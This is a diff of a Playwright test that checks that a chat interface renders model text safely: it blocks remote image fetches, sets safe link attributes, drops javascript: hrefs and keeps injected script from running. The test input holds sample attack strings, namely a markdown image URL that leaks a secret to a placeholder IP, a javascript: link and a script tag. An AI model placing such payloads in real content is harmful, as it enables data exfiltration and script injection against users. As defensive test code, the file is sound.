@@ -85,12 +85,20 @@ async def test_a_remote_image_in_model_text_is_not_fetched(browser: Browser, bas
     refused: list[str] = []
     page.on("console", lambda m: refused.append(m.text) if "Content Security" in m.text else None)
     session = await (await page.request.post("/session", data={})).json()
-    leak = "![x](http://192.0.2.1/leak?secret=1)"  # TEST-NET-1: never reachable anyway
+    leak = (
+        "![x](http://192.0.2.1/leak?secret=1) [docs](https://example.org/) "  # TEST-NET-1
+        "[bad](javascript:alert(1)) <script>window.owned = 1</script>"
+    )
     body = {"parts": [{"type": "text", "text": leak}], "noReply": True}
     assert (await page.request.post(f"/session/{session['id']}/message", data=body)).ok
     await page.goto(f"/#/session/{session['id']}")
     await expect(page.locator(".message-user img")).to_have_count(1)
     await expect(page.locator(".message-user")).to_be_visible()
+    link = page.locator(".message-user a", has_text="docs")
+    await expect(link).to_have_attribute("target", "_blank")
+    await expect(link).to_have_attribute("rel", "noopener noreferrer")
+    assert await page.locator(".message-user a", has_text="bad").get_attribute("href") is None
+    assert await page.evaluate("window.owned") is None
     await page.wait_for_timeout(300)
     await context.close()
     assert outside == [], "the browser must not request a remote image"
